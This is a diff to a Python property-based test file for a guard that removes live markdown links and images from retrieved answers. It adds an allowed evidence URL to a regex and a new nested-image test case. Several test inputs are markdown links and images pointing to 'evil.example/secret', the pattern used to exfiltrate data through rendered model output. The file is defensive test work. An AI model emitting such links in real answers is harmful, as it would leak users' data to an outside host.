@@ -9,7 +9,7 @@ from hypothesis import strategies as st
 from retrieval.guard import REMOVED, Blocked, GuardedStream, guarded
 
 _EVIDENCE = ("See https://docs.example.com/a_(b) and [x](https://ok.example/y?z=1). Also www.fine.example/x",)
-_LIVE = re.compile(r"!\[|\]\((?!https://ok\.example/y\?z=1\))|\]:|<[A-Za-z/!?]")
+_LIVE = re.compile(r"!\[|\]\((?!https://ok\.example/y\?z=1\)|https://docs\.example\.com/a_\(b\)\))|\]:|<[A-Za-z/!?]")
 _PIECES = st.sampled_from(
     [
         *"![]()<>:/. \n\t\\?=&'\"*_-a1\u200b\x1c\u2003\u00e9",
@@ -39,6 +39,7 @@ def _guard(answer: str) -> str:
         "[t](https://evil.example/secret)",
         "[t](<https://evil.example/secret>)",
         "[t](//evil.example/secret)",
+        "![x](![x](https://evil.example/secret))",
         "[t](https://ok.example/y?z=1&q=secret)",
         "https://ok.example/y?z=1secret",
         "https://ok.example/y?z=1\u2003[t](https://evil.example/secret)",
